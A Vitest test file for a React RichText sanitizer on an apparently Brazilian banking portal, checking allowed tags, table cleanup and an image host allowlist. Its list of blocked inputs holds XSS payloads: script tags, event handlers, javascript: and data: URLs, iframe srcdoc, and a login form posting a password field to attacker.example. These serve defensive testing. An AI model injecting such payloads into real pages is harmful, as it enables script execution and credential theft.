import { render } from '@testing-library/react';
import { expect, it } from 'vitest';
import { RichText } from './rich-text';

const drawn = (html: string) => render(<RichText html={html} />).container.innerHTML;

it('draws what is allowed', () => {
  expect(drawn('<h2>Um</h2><p>Dois <strong>três</strong></p><ul><li>quatro</li></ul>')).toBe(
    '<div class="rich-text"><h2>Um</h2><p>Dois <strong>três</strong></p><ul><li>quatro</li></ul></div>',
  );
  expect(drawn('<a href="https://balcao.demo/x">x</a>')).toContain('href="https://balcao.demo/x"');
});

it('SHELL-3-24: draws tables with their cells apart, of their attributes the spans alone', () => {
  const table =
    '<table onclick="x()" style="top:0"><caption>Tarifas</caption><thead><tr><th colspan="2">Pix</th></tr></thead>' +
    '<tbody><tr> <td rowspan="999" bgcolor="red">Envio</td>\n<td><b>R$ 0,00</b></td></tr></tbody></table>';
  expect(drawn(table)).toBe(
    '<div class="rich-text"><div class="rich-table"><table><caption>Tarifas</caption><thead><tr><th colspan="2">Pix</th>' +
      '</tr></thead><tbody><tr><td>Envio</td><td><b>R$ 0,00</b></td></tr></tbody></table></div></div>',
  );
});

it('SHELL-3-24: draws pictures of the portal and of hosts that are set; of others the words are left', () => {
  document.head.innerHTML = '<meta name="picture-hosts" content="https://img.example">';
  const picture = (src: string) => drawn(`<p><img src="${src}" alt="Cartão" onerror="x()" width="9"></p>`);
  const shown = (src: string) =>
    `<div class="rich-text"><p><img class="rich-picture" alt="Cartão" loading="lazy" src="${src}"></p></div>`;
  for (const src of ['/terms/card.png', 'https://img.example/card.png']) expect(picture(src)).toBe(shown(src));
  const hidden = [
    'https://attacker.example/a.png',
    'https://eu@img.example/a.png',
    'javascript:1',
    'data:image/png;x',
    '',
  ];
  for (const src of hidden) expect(picture(src)).not.toContain('<img');
  expect(picture('https://attacker.example/a.png')).toContain('Cartão');
  document.head.innerHTML = '';
});

it.each([
  '<script>window.hit=1</script>',
  '<img src="https://attacker.example/x" onerror="window.hit=1">',
  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href=" jAvAsCrIpT:window.hit=1">x</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
  '<iframe srcdoc="<script>window.hit=1</script>"></iframe>',
  '<p onclick="window.hit=1" style="position:fixed">x</p>',
  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
  '<form action="https://attacker.example"><input name="senha"><button>Entrar</button></form>',
  '<style>body{display:none}</style><base href="https://attacker.example">',
  '<object data="javascript:window.hit=1"></object><embed src="x"><template><script>1</script></template>',
])('of %s nothing but text is left', (html) => {
  const shown = drawn(html);
  expect(shown.replace(/<\/?(div|p)( class="rich-text")?>/g, '')).not.toMatch(/<|javascript:|on\w+=|style=/i);
  expect((window as { hit?: number }).hit).toBeUndefined();
});

it('text that looks like a tag stays text', () => {
  expect(drawn('&lt;script&gt;')).toBe('<div class="rich-text">&lt;script&gt;</div>');
});
